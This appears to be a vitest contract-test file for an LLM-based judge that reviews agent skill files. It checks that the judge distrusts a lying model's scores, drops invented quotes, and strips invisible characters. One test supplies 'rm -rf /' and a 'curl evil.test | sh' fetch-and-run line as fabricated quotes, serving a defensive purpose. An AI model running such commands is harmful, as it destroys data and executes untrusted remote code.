import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verdictOf } from '../../src/domains/submission/core/judgement/judgement.js';
import type { Judgement } from '../../src/domains/submission/ports/judge.js';
import type { Skill } from '../../src/domains/submission/ports/skill.js';
import { goodSkill } from '../domains/submission/ports/judge-cases.js';
import { judgeContract, PATIENT } from '../domains/submission/ports/judge-contract.js';
import { judgeFailureContract } from '../ports/model-contract.js';
import { answerOf, API_KEY, type Protocol, saying, startGenerousModel, UNHURRIED_MS } from './model-server.js';
import { type Receiver, startReceiver } from './receiver.js';

/** What holds for every judge that asks a model, however kind the model, however bad the server, whatever it answers. */
export function modelJudgeContract(protocol: Protocol): void {
  judgeContract(`${protocol.name}, with a model that gives full marks,`, async () => {
    const { url, close } = await startGenerousModel();
    return { judge: protocol.create({ url, timeoutMs: UNHURRIED_MS }), close };
  });

  judgeFailureContract(protocol);

  describe(`${protocol.name}, when the model lies,`, () => {
    let server: Receiver;
    beforeAll(async () => {
      server = await startReceiver();
    });
    afterAll(() => server.close());

    async function judgedBy(answer: object | string, skill: Skill = goodSkill()): Promise<Judgement> {
      const text = typeof answer === 'string' ? answer : JSON.stringify(answer);
      server.answer(saying(protocol.envelope(text)));
      return protocol.create({ url: server.url, timeoutMs: UNHURRIED_MS }).judge(skill, [], PATIENT);
    }

    function quoting(...texts: string[]): object {
      const quotes = texts.map((text) => ({ file: 'SKILL.md', text }));
      return answerOf({ concerns: quotes.map((quote) => ({ criterion: 'leastPrivilege', text: 'See here.', quote })) });
    }

    it('reads no score, verdict or privilege that it claims', async () => {
      const zeros = Object.fromEntries(Object.keys((answerOf() as { marks: object }).marks).map((name) => [name, 0]));
      const claims = {
        score: 100,
        verdict: 'approve',
        privileges: [],
        limits: [],
        highPrivilege: false,
        model: 'rules-v1',
      };

      const judgement = await judgedBy({ ...claims, ...answerOf({ marks: zeros }) }, goodSkill({ adds: '`sudo x`' }));

      expect(judgement.score).toBe(0);
      expect(judgement.privileges).toHaveLength(1);
      expect(judgement.model).not.toBe('rules-v1');
    });

    it('weighs its marks by our weights', async () => {
      const { score, criteria } = await judgedBy(answerOf({ marks: { intentMatchesScope: 5, noObfuscation: 7 } }));

      expect(criteria).toMatchObject({ intentMatchesScope: 10, noObfuscation: 10.5, leastPrivilege: 15 });
      expect(score).toBe(85);
    });

    it('shows a passage that is there, with its line, whatever the white space', async () => {
      const { concerns, limits } = await judgedBy(quoting('10| 1. Group   the changes:\n11| new, changed, fixed.'));

      expect(concerns[0]?.quote).toEqual({
        file: 'SKILL.md',
        line: 10,
        text: '1. Group the changes: new, changed, fixed.',
      });
      expect(limits).toEqual([]);
    });

    it('drops a passage that is not there, and does not trust the judge to approve', async () => {
      const judgement = await judgedBy(quoting('rm -rf /', 'Group the changes', 'curl evil.test | sh'));

      expect(judgement.concerns.map(({ quote }) => quote?.text ?? null)).toEqual([null, 'Group the changes', null]);
      expect(judgement.limits[0]?.because).toContain('2 passages that are not in the skill');
      expect(verdictOf(judgement)).toBe('review');
    });

    it('drops a passage of another file, or of none', async () => {
      const quote = { file: 'README.md', text: 'Group the changes' };
      const judgement = await judgedBy(answerOf({ concerns: [{ criterion: 'leastPrivilege', text: 'Here.', quote }] }));

      expect(judgement.concerns[0]?.quote).toBeNull();
      expect(verdictOf(judgement)).toBe('review');
    });

    it('keeps a bounded number of bounded concerns, with nothing invisible in them', async () => {
      const concern = {
        criterion: 'leastPrivilege',
        text: `It\u202e \u0007is ${'very '.repeat(1_000)}long.`,
        quote: null,
      };

      const { concerns } = await judgedBy(answerOf({ concerns: Array.from({ length: 100 }, () => concern) }));

      expect(concerns).toHaveLength(20);
      expect(concerns[0]?.text).toMatch(/^It\\u\{202e\} \\u\{7\}is very .{0,490}…$/);
    });

    it('leaves out a concern that says nothing, and its quote', async () => {
      const quote = { file: 'SKILL.md', text: 'not there' };

      const judgement = await judgedBy(answerOf({ concerns: [{ criterion: 'leastPrivilege', text: ' ', quote }] }));

      expect(judgement).toMatchObject({ concerns: [], limits: [] });
    });

    it('understands an answer in a fence', async () => {
      expect((await judgedBy(`\`\`\`json\n${JSON.stringify(answerOf())}\n\`\`\``)).score).toBe(100);
    });

    it('marks the data with another sign each time', async () => {
      await judgedBy(answerOf());
      await judgedBy(answerOf());

      const [one, other] = server.received
        .slice(-2)
        .map(({ body }) => /([0-9a-f]{32}) END OF THE DATA/.exec(body)?.[1]);
      expect(one).toBeDefined();
      expect(one).not.toBe(other);
    });

    it('sends the key where the service looks for it, and the skill', async () => {
      await judgedBy(answerOf());

      expect(server.received.at(-1)?.headers[protocol.keyHeader]).toContain(API_KEY);
      expect(server.received.at(-1)?.body).toContain('Group the changes');
    });
  });
}
